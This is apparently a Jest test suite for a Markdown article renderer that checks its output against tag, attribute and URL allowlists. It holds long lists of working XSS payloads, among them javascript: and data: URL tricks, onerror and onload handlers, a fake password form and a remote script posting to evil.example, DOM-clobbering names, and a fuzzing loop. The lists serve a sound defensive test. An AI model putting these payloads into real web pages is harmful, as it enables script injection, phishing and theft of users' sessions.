/** @jest-environment jsdom */
import { dialect } from './directives/dialect';
import { renderArticle } from './renderArticle';

const allowedTags = new Set(
  (
    'a blockquote br code del details div em h2 h3 h4 h5 h6 hr img li ol p pre section span ' +
    'strong summary sup table tbody td th thead tr ul'
  ).split(' '),
);
const allowedAttributes = new Set(
  (
    'align alt aria-describedby aria-hidden aria-label class data-embed data-footnote-backref ' +
    'data-footnote-ref data-footnotes data-interactive data-item data-option data-tick data-video ' +
    'decoding href id loading referrerpolicy rel role scope src start tabindex title type'
  ).split(' '),
);

function violations(html: string): string[] {
  const { body } = new DOMParser().parseFromString(html, 'text/html');
  return [...body.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    const found = allowedTags.has(tag) ? [] : [`<${tag}>`];
    for (const { name, value } of element.attributes) {
      if (!allowedAttributes.has(name)) found.push(`${tag} ${name}`);
      if (name === 'href' || name === 'src') {
        const url = new URL(value, 'https://pressline.example/');
        const protocols = name === 'src' ? /^https:$/ : /^(?:https?|mailto|tel):$/;
        if (!protocols.test(url.protocol)) found.push(`${tag} ${name}=${value}`);
      }
      if (name === 'id' && !/^(?:section|footnote)-/.test(value)) found.push(`id=${value}`);
    }
    return found;
  });
}

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61;vascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#1;javascript:alert(1)',
  '&nbsp;javascript:alert(1)',
  '&#x2028;javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'view-source:https://example.com',
  'feed:javascript:alert(1)',
  'intent://example.com#Intent;end',
  '//evil.example/path',
  '/\\evil.example',
  '\\\\evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https://pressline.example@evil.example/',
  'https://user:secret@evil.example/',
  'ht&#9;tps://evil.example',
  'http://[::1',
];

const urlPlaces: [string, (url: string) => string][] = [
  ['link', (url) => `[text](${url})`],
  ['bracketed link', (url) => `[text](<${url}>)`],
  ['autolink', (url) => `<${url}>`],
  ['reference', (url) => `[text][ref]\n\n[ref]: ${url}`],
  ['bracketed reference', (url) => `[text][ref]\n\n[ref]: <${url}> "title"`],
  ['image', (url) => `![text](<${url}>)`],
  ['linked image', (url) => `[![text](<${url}>)](<${url}>)`],
  ['table', (url) => `| a |\n|---|\n| [x](<${url}>) |`],
  ['footnote', (url) => `a[^1]\n\n[^1]: [x](<${url}>)`],
  ['video', (url) => `:::video[x]{url="${url}"}\n:::`],
  ['leaf video', (url) => `::video[x]{url='${url}'}`],
  ['summary', (url) => `:::details[[x](<${url}>)]\n[x](<${url}>)\n:::`],
  ['quiz option', (url) => `:::quiz\nq\n\n- [x] [x](<${url}>)\n:::`],
];

const raw = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  'a <img src=x onerror=alert(1)> b',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password type=password><button>Login</button></form>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="javascript:alert(1)" target=_blank>x</a>',
  '<p id=location name=cookie>x</p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html><body onload=alert(1)>',
  '<br onclick=alert(1)>',
  '<br/><img src=x onerror=alert(1)>',
  '`<img src=x onerror=alert(1)>',
  '```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '~~~"><script>alert(1)</script>\n~~~',
  '![" onerror="alert(1)](/x.png)',
  '![x](/x.png "\\" onerror=\\"alert(1)")',
  '[x](/a" onclick="alert(1))',
  '[x](</a onmouseover=alert(1)> "t\\" onclick=alert(1)")',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
  '[^<script>]\n\n[^<script>]: <script>alert(1)</script>',
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
];

const directiveTricks = [
  ':::note{onclick=alert(1) style="position:fixed" id=location .sr-only}\nx\n:::',
  ':::details[<img src=x onerror=alert(1)>]{open ontoggle=alert(1)}\nx\n:::',
  ':::video{url=javascript:alert(1)}\n:::',
  ':::video{url="https://www.youtube.com.evil.example/watch?v=abcdefghijk"}\n:::',
  ':::video{url="https://evil.example/https://www.youtube.com/watch?v=abcdefghijk"}\n:::',
  ':::video{url="https://www.youtube.com/embed/../../evil"}\n:::',
  ':::video{url="http://www.youtube.com/watch?v=abcdefghijk"}\n:::',
  ':::video{url="https://vimeo.com/1234567\\"onload=alert(1)"}\n:::',
  ':::script\nalert(1)\n:::',
  ':::iframe{src=javascript:alert(1)}\n:::',
  ':::constructor\nx\n:::',
  ':::__proto__{x=1}\nx\n:::',
  '::hasOwnProperty[x]{y=z}',
  ':::toString[a]\nx\n:::',
  '::::steps\n1. a\n\n   :::quiz{onclick=x}\n   - [x] <script>alert(1)</script>\n   :::\n::::',
  ':script[alert(1)]{src=x} and :img{src=x onerror=alert(1)}',
];

const punctuation = [
  ...[
    '[',
    ']',
    '](',
    ')',
    '![',
    '<',
    '>',
    '`',
    '```',
    '*',
    '_',
    '~~',
    '|',
    '\\',
    '&',
    '"',
    "'",
    '#',
  ],
  ...[
    '\n',
    '\n\n',
    '\t',
    '    ',
    '> ',
    '- ',
    '- [x] ',
    '1. ',
    '|-|-|',
    '[^1]',
    '[^1]: ',
    '[a]: ',
    '---',
  ],
  ...[
    ':::',
    '::::',
    '\n:::\n',
    ':::quiz\n',
    ':::steps\n',
    '{',
    '}',
    '\0',
    '\u202e',
    '\ud800',
    '\r',
    'https://',
    'www.',
  ],
];

const clobbering = ['location', 'cookie', 'body', '__proto__', 'getElementById', 'footnote-label'];

describe('hostile Markdown', () => {
  test.each(urlPlaces)('no unsafe address survives as %s', (_place, write) => {
    for (const scheme of schemes) {
      const { html } = renderArticle(write(scheme));
      expect({ scheme, violations: violations(html) }).toEqual({ scheme, violations: [] });
      expect(html).not.toMatch(/(?:href|src)="[^"]*(?:script|evil)/i);
    }
  });

  test.each([...raw, ...directiveTricks])('%j yields only allowed elements', (markdown) => {
    const nested = [markdown, `> ${markdown}`, `- ${markdown}`, `:::tip\n${markdown}\n:::`];
    for (const source of nested) {
      const { html } = renderArticle(source);
      expect(violations(html)).toEqual([]);
    }
  });

  test.each(clobbering)('a heading named %s gets a prefixed id', (name) => {
    const { html, toc } = renderArticle(
      `## ${name}\n\n## ${name}\n\ntext[^${name}]\n\n[^${name}]: x`,
    );
    expect(violations(html)).toEqual([]);
    expect(new Set(toc.map((entry) => entry.id)).size).toBe(2);
  });

  it('survives random mixtures of everything above', () => {
    const pieces = [...schemes, ...raw, ...directiveTricks, ...punctuation];
    let state = 7;
    const next = (below: number) => {
      state = (state * 48_271) % 2_147_483_647;
      return state % below;
    };
    for (let round = 0; round < 400; round += 1) {
      const picked = Array.from({ length: 1 + next(12) }, () => pieces[next(pieces.length)]);
      const source = picked.join(next(2) ? '' : '\n');
      expect({ source, violations: violations(renderArticle(source).html) }).toEqual({
        source,
        violations: [],
      });
    }
  });

  it('shows raw HTML as the text it is', () => {
    expect(renderArticle('press <b>start</b>').html).toBe('<p>press &#x3C;b>start&#x3C;/b></p>');
  });

  it('finds nothing to complain about in the dialect itself', () => {
    for (const { example } of dialect) expect(violations(renderArticle(example).html)).toEqual([]);
  });
});
